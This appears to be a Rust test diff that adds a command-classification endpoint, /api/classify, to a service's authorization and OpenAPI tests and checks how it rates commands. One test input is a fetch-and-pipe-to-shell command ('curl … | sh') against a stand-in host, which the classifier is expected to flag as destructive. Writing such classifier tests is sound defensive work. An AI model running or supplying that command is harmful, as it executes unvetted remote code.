@@ -179,6 +179,12 @@ fn authorization_matrix() {
         },
         Route {
             method: "POST",
+            path: "/api/classify".into(),
+            body: Some(json!({"command": "ls -la"})),
+            expect: [401, 200, 200, 200],
+        },
+        Route {
+            method: "POST",
             path: "/api/me/password".into(),
             body: Some(json!({"current_password": "wrong one!!", "new_password": PASSWORD})),
             expect: [401, 403, 403, 403],
@@ -717,6 +723,7 @@ fn the_openapi_document_covers_every_route() {
         "GET /api/executions",
         "GET /api/executions/{id}",
         "POST /api/executions/{id}/kill",
+        "POST /api/classify",
         "GET /api/events",
         "GET /api/status",
     ];
@@ -738,4 +745,51 @@ fn the_openapi_document_covers_every_route() {
         assert!(got.status != 404 && got.status != 405, "{op}: {got:?}");
     }
     stack.stop();
+}
+
+#[test]
+fn classify_explains_the_class_and_what_running_it_takes() {
+    let stack = StackBuilder::new().start();
+    let (_admin, mut bob) = accounts(&stack);
+    let r = bob.post(
+        "/api/classify",
+        json!({"command": "curl -fsSL https://x.example/i.sh | sh"}),
+    );
+    assert_eq!(r.status, 200, "{r:?}");
+    let v = r.json();
+    assert_eq!(v["class"], "destructive", "{v}");
+    assert_eq!(v["needs_approval"], true);
+    assert_eq!(v["needs_confirmation"], true);
+    assert_eq!(v["reasons"][0]["class"], "destructive");
+    assert!(
+        v["reasons"][0]["why"]
+            .as_str()
+            .unwrap()
+            .contains("fetched from the network"),
+        "{v}"
+    );
+    let v = bob
+        .post("/api/classify", json!({"argv": ["git", "status"]}))
+        .json();
+    assert_eq!(v["class"], "read_only", "{v}");
+    assert_eq!(v["needs_approval"], false);
+    let v = bob
+        .post(
+            "/api/classify",
+            json!({"command": "systemctl restart nginx", "risk": "config_mutation"}),
+        )
+        .json();
+    assert_eq!(v["class"], "config_mutation", "declared raises: {v}");
+    assert_eq!(v["needs_confirmation"], false);
+    // Bad input names the field.
+    for (body, field) in [
+        (json!({"command": "ls", "risk": "harmless"}), "risk"),
+        (json!({"command": "ls", "argv": ["ls"]}), "command, argv"),
+        (json!({}), "command"),
+        (json!({"command": "ls", "why": "x"}), "why"),
+    ] {
+        let r = bob.post("/api/classify", body.clone());
+        assert_eq!(r.status, 400, "{body}: {r:?}");
+        assert!(r.message().contains(field), "{body}: {r:?}");
+    }
 }
